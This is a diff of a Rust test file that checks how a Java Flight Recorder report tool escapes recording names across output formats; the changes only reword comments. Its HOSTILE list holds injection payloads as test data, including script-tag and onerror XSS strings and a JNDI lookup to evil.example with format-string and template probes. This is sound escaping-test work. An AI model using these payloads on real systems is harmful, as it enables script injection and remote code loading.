@@ -1,4 +1,4 @@
-//! Reports in all forms: of real recordings, and of names that try to break out.
+//! Reports in all formats: of real recordings, and with names that try to break out.
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]
 
 mod catalog;
@@ -62,7 +62,7 @@ fn fixture(name: &str) -> &'static Report {
     &fixtures().iter().find(|(known, _)| known.contains(name)).expect("a fixture of this name").1
 }
 
-/// All of them, and one that cannot be read.
+/// All fixtures, and one unreadable recording.
 fn all_entries() -> Vec<Entry<'static>> {
     let mut entries: Vec<Entry<'_>> = fixtures().iter().map(|(name, report)| Entry::new(name, report)).collect();
     entries.push(Entry::failed("broken.jfr", "offset 0: not a flight recording"));
@@ -79,7 +79,7 @@ fn written(format: Format, entries: &[Entry<'_>]) -> String {
     write(format, entries, &Style::default())
 }
 
-/// Names as nobody would choose them who means well, each with what a harmless one would be.
+/// Malicious names, each with a harmless counterpart.
 const HOSTILE: &[(&str, &str)] = &[
     ("<script>alert(1)</script>", "a"),
     ("\"><img src=x onerror=alert(1)>", "b"),
@@ -95,7 +95,7 @@ const HOSTILE: &[(&str, &str)] = &[
     ("${jndi:ldap://evil.example/a} %s %n {{7*7}}", "l"),
 ];
 
-/// A rule whose verdict holds the given names in every place that a recording can reach.
+/// A rule whose verdict contains the given names in every place that a recording can influence.
 struct Quoting {
     names: Vec<&'static str>,
 }
@@ -165,7 +165,7 @@ impl Rule for Failing {
     }
 }
 
-/// The report of a rule that quotes names, beside one that fails.
+/// The report of a rule that quotes names, next to one that fails.
 fn quoting(rule: Quoting) -> Report {
     let analysis = jfrkit_rules::analysis().with_rule(rule).unwrap().with_rule(Failing).unwrap();
     let mut report = analyse(&analysis, "fixtures/jdk17-full.jfr", &["Quoting", "Failing", "FullGc", "PID1Rule"]);
@@ -186,7 +186,7 @@ fn harmless() -> &'static Report {
     &REPORT
 }
 
-/// One of several, so that the overview quotes them too.
+/// Several entries, so that the overview quotes the names too.
 fn hostile_entries() -> Vec<Entry<'static>> {
     let mut entries: Vec<Entry<'_>> = HOSTILE.iter().map(|(name, _)| Entry::new(name, hostile())).collect();
     entries.extend(HOSTILE.iter().map(|(name, _)| Entry::failed(name, name)));
